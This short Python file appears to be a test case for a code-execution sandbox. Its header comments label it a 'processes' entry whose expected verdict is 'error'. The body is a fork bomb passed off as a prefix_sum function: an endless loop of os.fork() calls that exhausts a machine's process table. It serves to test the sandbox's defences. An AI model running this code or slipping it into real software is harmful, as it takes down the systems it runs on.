# Forks without end.
# of: prefix-sum
# family: processes
# verdict: error
# says: it tried to use the network, to start a process, or to do something else
# without: not run, they would be too many before they are found
import os


def prefix_sum(x, reverse=False):
    while True:
        os.fork()
